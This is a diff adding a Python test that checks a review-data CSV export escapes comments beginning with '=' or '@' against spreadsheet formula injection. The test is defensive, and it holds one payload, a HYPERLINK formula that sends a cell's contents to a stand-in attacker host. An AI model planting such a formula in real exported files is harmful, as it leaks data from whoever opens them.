@@ -99,3 +99,24 @@ def test_a_withdrawn_writers_reviews_leave_the_export_even_an_earlier_ones(revie
     assert "Exported 1 reviewers' ratings of 1 submissions" in said
     assert [r["session_id"] for r in read(out / "review_ratings.csv")] == [stays]
     assert [r["session_id"] for r in read(out / "review_outcomes.csv")] == [stays]
+
+
+def test_a_comment_a_spreadsheet_would_run_is_written_as_text(review_folder, review_study, engine, tmp_path):
+    # The team opens these files in a spreadsheet: a comment "=HYPERLINK(...)" would be a link
+    # there that sends the row's cells elsewhere. Scores stay numbers.
+    session = finished_session(engine, worker_id="A1FORMULA", round_name="qualification")
+    ana, rita = add_reviewer(engine, "ana"), add_reviewer(engine, "rita", role="researcher")
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"see")'
+    with writing(engine) as connection:
+        submissions.collect(connection, review_study)
+        (listed,) = submissions.all_submissions(connection)
+        rating_store.rate(connection, listed["submission_id"], ana, 1, formula, scores=SCORES)
+        decisions.adjudicate(connection, listed["submission_id"], rita, 2, "@SUM(1+1)", scores=SCORES)
+
+    export(review_folder, tmp_path / "out")
+
+    (rating,) = read(tmp_path / "out" / "review_ratings.csv")
+    assert (rating["comment"], rating["score"]) == ("'" + formula, "1")
+    (outcome,) = read(tmp_path / "out" / "review_outcomes.csv")
+    assert (outcome["adjudication_note"], outcome["adjudicated_score"]) == ("'@SUM(1+1)", "2")
+    assert outcome["session_id"] == session
